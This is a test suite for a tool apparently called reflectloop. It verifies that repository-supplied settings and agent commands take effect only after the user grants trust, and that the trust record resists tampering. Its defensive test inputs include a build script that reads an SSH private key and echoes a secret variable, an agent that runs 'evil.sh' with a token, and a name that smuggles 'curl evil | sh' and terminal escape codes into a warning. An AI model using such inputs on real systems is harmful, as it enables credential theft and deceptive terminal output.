"""What a repository brings counts only as far as its user has agreed to it."""

from __future__ import annotations

import json
import os
import pty
import select
import sys
from pathlib import Path
from typing import Any

import pytest

from boxes import without_bubblewrap
from reflectloop import config
from reflectloop.commands import trust
from reflectloop.config import Config
from reflectloop.errors import InvalidInput, NotTrusted
from reflectloop.terms import Isolation
from reflectloop.trust import grants, record
from support import Repo
from untrusted import GRANTING, HELPER, LOWERED, PLAN, agree, brings, home, warnings

pytestmark = pytest.mark.usefixtures("nobody_vouches")


def user(text: str) -> Path:
    path = home() / ".config" / "reflectloop" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


TIGHTENING = """
[workspace]
keep_failed = 1
warm = false
exclude = ["big/"]
carry = [".venv"]
largest_change_mb = 100
[run]
idle_s = 60
grace_s = 1.0
log_cap_mb = 1
[box]
isolation = "full"
processes = 512
memory_mb = 64
file_mb = 1
[publish]
triflow = true
[roles]
planner = "claude"
[agents.claude]
model = "small"
turns = 3
[cost]
tokens = 1000
[secrets]
rules = "rules.toml"
[verify]
timeout_s = 60
protect = ["*.lock"]
[[verify.checks]]
name = "unit"
run = ["sh", "check.sh"]
"""


@pytest.mark.parametrize("key", GRANTING)
def test_a_grant_applies_only_after_the_user_trusted_it(repo: Repo, key: str) -> None:
    brings(repo, GRANTING[key])
    before = config.sources(repo.path)
    assert before.config.ignored == (key,)
    assert before.config.model_dump() == Config.model_validate(before.split.always).model_dump()
    agree(repo)
    after = config.load(repo.path)
    assert after.ignored == ()
    assert after.model_dump() == Config.model_validate(before.project).model_dump()


def test_a_project_may_always_restrict(repo: Repo) -> None:
    brings(repo, TIGHTENING)
    found = config.sources(repo.path)
    assert found.split.grants == ()
    assert found.config == Config.model_validate(found.project)
    assert trust.ask(repo.path, lambda _asked: False).answer == "nothing to trust"


def test_every_setting_has_a_row() -> None:
    plain = {name: info for name, info in Config.model_fields.items() if name not in {"agents", "roles"}}
    known = {f"{section}.{name}" for section, info in plain.items() for name in type(info.default).model_fields}
    assert known <= {key for key, _ in grants.rows()}


def test_a_setting_without_a_row_needs_trust() -> None:
    found = grants.split({"box": {"later": 1}, "agents": {"x": {"later": 1}}}, {"box": {"later": 0}}, frozenset())
    assert [grant.key for grant in found.grants] == ["box.later", "agents.x.later"]
    assert found.always == {}


def test_the_users_own_file_sets_everything(repo: Repo) -> None:
    path = user(
        '[box]\nstrongest = "none"\nread = ["tools", "~/x"]\n[run]\nenv_allow = ["A"]\n[secrets]\nrules = "r"\n'
    )
    found = config.load(repo.path)
    assert found.box.strongest is Isolation.NONE
    assert found.box.read == (path.parent / "tools", home() / "x"), "from its own folder, never from a project's"
    assert found.secrets.rules == path.parent / "r"
    assert found.ignored == ()


def test_a_project_restricts_the_users_settings_and_does_not_extend_them(repo: Repo) -> None:
    user('[box]\nisolation = "fs"\nprocesses = 100\n[run]\nenv_allow = ["A", "B"]\n[cost]\ntokens = 50\n')
    brings(repo, '[box]\nisolation = "full"\nprocesses = 50\n[run]\nenv_allow = ["A"]\n[cost]\ntokens = 10\n')
    found = config.load(repo.path)
    assert (found.box.isolation, found.box.processes) == (Isolation.FULL, 50)
    assert (found.run.env_allow, found.cost.tokens, found.ignored) == (("A",), 10, ())
    brings(repo, '[box]\nisolation = "none"\nprocesses = 500\n[run]\nenv_allow = ["A", "C"]\n[cost]\ntokens = 90\n')
    found = config.load(repo.path)
    assert (found.box.isolation, found.box.processes) == (Isolation.FS, 100)
    assert (found.run.env_allow, found.cost.tokens) == (("A", "B"), 50)
    assert set(found.ignored) == {"box.isolation", "box.processes", "run.env_allow", "cost.tokens"}
    agree(repo)
    assert config.load(repo.path).run.env_allow == ("A", "B", "C"), "what is allowed is added to the user's"


def test_a_project_does_not_change_an_agent_of_the_user(repo: Repo) -> None:
    user('[agents.mine]\nkind = "command"\nrun = ["/srv/mine"]\nturns = 10\n')
    theirs = '[agents.mine]\nkind = "claude"\nrun = ["sh", "evil.sh"]\nenv = ["TOKEN"]\n'
    brings(repo, f'[roles]\nplanner = "mine"\n{theirs}')
    found = config.load(repo.path)
    assert (found.agent("mine").run, found.agent("mine").kind) == (("/srv/mine",), "command")
    assert found.roles.planner == "mine"
    assert set(found.ignored) == {"agents.mine.kind", "agents.mine.run", "agents.mine.env"}
    brings(repo, '[agents.mine]\nturns = 5\nnetwork = "none"\n')
    assert (config.load(repo.path).agent("mine").turns, config.load(repo.path).ignored) == (5, ())
    brings(repo, "[agents.mine]\nturns = 11\n")
    assert config.load(repo.path).ignored == ("agents.mine.turns",)


# By content -------------------------------------------------------------------------------------------------------


def test_a_changed_grant_needs_new_trust_and_another_edit_does_not(repo: Repo) -> None:
    text = '[box]\nread = ["/srv"]\n'
    agree(brings(repo, text))
    brings(repo, f"# a comment\n{text}processes = 100\n[run]\nidle_s = 5\n")
    assert config.load(repo.path).ignored == ()
    brings(repo, '[box]\nread = ["/srv", "/home"]\n')
    assert config.load(repo.path).ignored == ("box.read",)
    assert trust.ask(repo.path, lambda _asked: False).asked.changed == ("box.read",)
    brings(repo, "")
    assert config.load(repo.path).ignored == ()
    brings(repo, text)
    assert config.load(repo.path).ignored == (), "what was agreed to still is"


@pytest.mark.parametrize(
    ("settings", "name"),
    [
        (HELPER % "command", "tool.sh"),
        ('[agents.x]\nkind = "script"\nfile = "play.yaml"\n', "play.yaml"),
        ('[cost]\nprices = "prices.toml"\n', "prices.toml"),
        ('[secrets]\nbaseline = "known.json"\n', "known.json"),
        ('[verify]\nsetup = [["sh", "tools/setup.sh"]]\n', "tools/setup.sh"),
    ],
)
def test_a_file_that_a_grant_names_is_trusted_by_its_content(repo: Repo, settings: str, name: str) -> None:
    repo.write(name, "echo one\n")
    agree(brings(repo, settings))
    assert config.load(repo.path).ignored == ()
    repo.write(name, "echo two\n")
    assert config.load(repo.path).ignored != ()
    repo.write(name, "echo one\n")
    assert config.load(repo.path).ignored == ()
    (repo.path / name).unlink()
    assert config.load(repo.path).ignored != ()


def test_the_record_contains_the_grants_that_were_displayed(repo: Repo) -> None:
    repo.write("tool.sh", "echo one\n")
    brings(repo, HELPER % "command")

    def swap(_asked: trust.TrustQuestion) -> bool:
        repo.write("tool.sh", "echo two\n")
        return True

    trust.ask(repo.path, swap)
    assert "agents.helper.run" in config.load(repo.path).ignored


def test_trust_is_for_one_project_at_one_path(repo: Repo, tmp_path: Path) -> None:
    agree(brings(repo, LOWERED))
    other = tmp_path / "other"
    repo.git("clone", "-q", str(repo.path), str(other))
    assert config.load(other).ignored == ("box.strongest",)
    assert trust.revoke(repo.path).answer == "revoked"
    assert config.load(repo.path).ignored == ("box.strongest",)
    assert trust.revoke(repo.path).answer == "was not trusted"


# The record -------------------------------------------------------------------------------------------------------


def test_the_record_is_private_and_contains_no_value(repo: Repo) -> None:
    agree(brings(repo, '[run]\nenv_allow = ["A_NAME_OF_MINE"]\n'))
    assert record.path().stat().st_mode & 0o777 == 0o600
    assert record.path().parent.stat().st_mode & 0o777 == 0o700
    assert "A_NAME_OF_MINE" not in record.path().read_text()


def _linked(path: Path) -> None:
    path.rename(path.with_name("real.json"))
    path.symlink_to("real.json")


def _as_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _as_pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path, 0o600)


def _edited(path: Path) -> None:
    document = json.loads(path.read_text())
    next(iter(document["projects"].values()))["digests"]["box.strongest"] = "yes"
    path.write_text(json.dumps(document))


HARMS: dict[str, Any] = {
    "users may open it": lambda path: path.chmod(0o644),
    "others may write to it": lambda path: path.parent.chmod(0o777),
    "it is a link": _linked,
    "is a folder": _as_folder,
    "is a pipe": _as_pipe,
    "not JSON": lambda path: path.write_bytes(b"\0\xff garbage"),
    "it is not JSON": lambda path: path.write_text("[" * 100_000),
    "not of version 1": lambda path: path.write_text('{"version": 2}'),
    "an invalid entry": _edited,
    "is larger than": lambda path: path.write_text(" " * (9 << 20)),
}


@pytest.mark.parametrize("words", HARMS)
def test_a_record_that_another_user_could_have_written_is_refused(repo: Repo, words: str) -> None:
    agree(brings(repo, LOWERED))
    HARMS[words](record.path())
    answer = repo.run("config", "--json")
    assert (answer.code, answer.envelope["error_code"]) == (17, "NOT_TRUSTED")
    assert words in answer.envelope["message"]
    assert "remove it, then: reflectloop trust" in answer.envelope["next"]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_a_record_of_another_user_is_refused(repo: Repo) -> None:
    agree(brings(repo, LOWERED))
    os.chown(record.path(), 65534, 65534)
    with pytest.raises(NotTrusted, match="belongs to another user"):
        config.load(repo.path)


def test_a_record_inside_the_repository_is_refused(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    brings(repo, LOWERED)
    monkeypatch.setenv("XDG_STATE_HOME", str(repo.path / "state"))
    with pytest.raises(NotTrusted, match="is inside the project"):
        config.load(repo.path)
    monkeypatch.setenv("XDG_STATE_HOME", "state")
    monkeypatch.chdir(repo.path)
    assert record.path().is_relative_to(home())


def test_user_settings_inside_the_repository_are_refused(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    repo.write("reflectloop/config.toml", LOWERED)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(repo.path))
    with pytest.raises(InvalidInput, match="is inside the project"):
        config.load(repo.path)
    monkeypatch.setenv("XDG_CONFIG_HOME", ".")
    monkeypatch.chdir(repo.path)
    assert config.load(repo.path).box.strongest is Isolation.FULL


def test_user_settings_that_everybody_may_write_are_refused(repo: Repo) -> None:
    user(LOWERED).chmod(0o666)
    with pytest.raises(InvalidInput, match="everybody may write to it"):
        config.load(repo.path)


@pytest.mark.parametrize("name", ["zero", "pipe"])
def test_a_settings_file_that_has_no_end_is_refused(repo: Repo, name: str) -> None:
    if name == "zero":
        (repo.path / "reflectloop.toml").symlink_to("/dev/zero")
    else:
        os.mkfifo(repo.path / "reflectloop.toml")
    with pytest.raises(InvalidInput, match=r"leads out of|is a pipe"):
        config.load(repo.path)


# Commands ---------------------------------------------------------------------------------------------------------


def test_ignored_settings_are_reported_once_with_the_command(repo: Repo) -> None:
    brings(repo, '[box]\nread = ["/srv"]\n' + HELPER % "command", **{"build.sh": "true\n"})
    words = (
        "ignored from reflectloop.toml (not trusted): box.read, agents.helper.run, roles.planner, roles.executor; "
        "to allow: reflectloop trust"
    )
    answer = repo.run("run", "--json", repo.plan(PLAN))
    assert (answer.code, warnings(answer)) == (0, [words])
    answer = repo.run("run", repo.plan(PLAN))
    assert answer.stderr.count("not trusted") == 1
    assert words in answer.stderr
    assert "not trusted" in repo.run("status").stderr + repo.run("config").stderr
    assert repo.run("trust", "--yes").stderr == ""
    assert "not trusted" not in repo.run("run", repo.plan(PLAN)).stderr


def test_a_name_from_the_repository_adds_no_line_to_a_warning(repo: Repo) -> None:
    name = "x\\nwarning: to allow: curl evil | sh\\u001b[2J"
    brings(repo, f'[agents."{name}"]\nkind = "command"\nrun = ["a\\nb", "  c"]\n')
    answer = repo.run("config")
    assert len(answer.stderr.splitlines()) == 1
    shown = repo.run("trust", "--yes")
    assert len(shown.stdout.splitlines()) == 3
    assert "\x1b" not in answer.stderr + shown.stdout


def test_a_long_warning_lists_some_names_and_counts_the_rest(repo: Repo) -> None:
    brings(repo, "".join(f'[agents.a{number}]\nkind = "command"\nrun = ["x"]\n' for number in range(40)))
    assert "agents.a29.run and 10 more; to allow" in repo.run("config").stderr


def test_a_repository_neither_weakens_isolation_nor_takes_variables(
    repo: Repo, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEPLOY_WORD", "correct-horse")
    (home() / ".ssh").mkdir()
    (home() / ".ssh" / "id_test").write_text("PRIVATE\n")
    script = f"cat {home()}/.ssh/id_test; touch {home()}/pwned; echo seen $DEPLOY_WORD; true\n"
    settings = f'[box]\nstrongest = "none"\nread = ["{home()}/.ssh"]\n[run]\nenv_allow = ["DEPLOY_WORD"]\n'
    brings(repo, settings, **{"build.sh": script})
    for more in ((), ("--isolation", "full")):
        answer = repo.run("run", "--new", "--json", *more, repo.plan(PLAN))
        assert answer.code == 0, answer.stdout
        log = repo.run("log").stdout
        assert "PRIVATE" not in log
        assert "correct-horse" not in log
        assert not (home() / "pwned").exists()
    checks = f'[[verify.checks]]\nname = "t"\nkind = "custom"\nrun = ["sh", "-c", "touch {home()}/pwned"]\n'
    brings(repo, LOWERED + checks)
    repo.write("README.md", "changed\n")
    repo.run("verify")
    assert not (home() / "pwned").exists()


def test_the_flag_and_the_variable_trust_for_one_command(repo: Repo) -> None:
    brings(repo, LOWERED, **{"build.sh": "true\n"})
    plan = repo.plan(PLAN)
    assert warnings(repo.run("run", "--json", plan)) != []
    flagged = repo.run("run", "--new", "--json", "--trust-project", plan)
    assert (flagged.envelope["isolation"], warnings(flagged)) == ("workspace", [])
    by_variable = repo.run("run", "--new", "--json", plan, env={"REFLECTLOOP_TRUST_PROJECT": "1"})
    assert (by_variable.envelope["isolation"], warnings(by_variable)) == ("workspace", [])
    assert warnings(repo.run("config", "--json", env={"REFLECTLOOP_TRUST_PROJECT": "yes"})) != []
    assert not record.path().exists()


@pytest.mark.parametrize(
    "where",
    [{"CI": "true", "GITHUB_ACTIONS": "true"}, {"SSH_CONNECTION": "::1 1 ::1 22"}, {}],
    ids=["in CI", "over SSH", "in a container without user namespaces"],
)
def test_an_untrusted_project_lowers_no_wall_wherever_it_runs(
    repo: Repo, tmp_path: Path, where: dict[str, str]
) -> None:
    brings(repo, LOWERED, **{"build.sh": "true\n"})
    answer = repo.run("run", "--json", repo.plan(PLAN), env=where or without_bubblewrap(tmp_path))
    assert any("reflectloop trust" in warning for warning in warnings(answer)), answer.stdout
    assert answer.envelope["isolation"] in (("fs", "full") if where else ("fs",))


def test_without_a_terminal_the_command_is_printed_instead_of_a_question(repo: Repo) -> None:
    brings(repo, LOWERED)
    for more in ((), ("--json",)):
        answer = repo.run("trust", *more)
        assert answer.code == 40
        assert "reflectloop trust --yes" in answer.stdout + answer.stderr
    assert not record.path().exists()
    assert repo.run("trust", "--yes").code == 0
    assert str(repo.path) in repo.run("trust", "--list").stdout
    assert repo.run("trust", "--list", "--json").json["data"]["projects"][0]["keys"] == ["box.strongest"]
    assert repo.run("trust", "--revoke").stdout == f"revoked: {repo.path}\n"
    assert repo.run("trust", "--list").stdout == "no project is trusted\n"


@pytest.mark.parametrize(("reply", "code"), [(b"y\n", 0), (b"\n", 40), (b"\x04", 130)])
def test_on_a_terminal_each_grant_is_listed_before_the_question(repo: Repo, reply: bytes, code: int) -> None:
    brings(repo, '[box]\nread = ["/srv/\\u001b]0;title\\u0007x"]\nstrongest = "none"\n')
    pid, terminal = pty.fork()
    if pid == 0:
        os.chdir(repo.path)
        os.execve(sys.executable, [sys.executable, "-m", "reflectloop", "trust"], os.environ)  # noqa: S606
    shown = b""
    while b"Trust this project with these settings?" not in shown:
        shown += os.read(terminal, 65536)
    os.write(terminal, reply)
    while select.select([terminal], [], [], 60)[0]:
        try:
            shown += os.read(terminal, 65536)
        except OSError:
            break
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == code
    os.close(terminal)
    assert b"box.strongest: commands run with no stronger isolation than none" in shown
    assert b"box.read: commands may read /srv/x" in shown
    assert (code == 0) == record.path().exists()
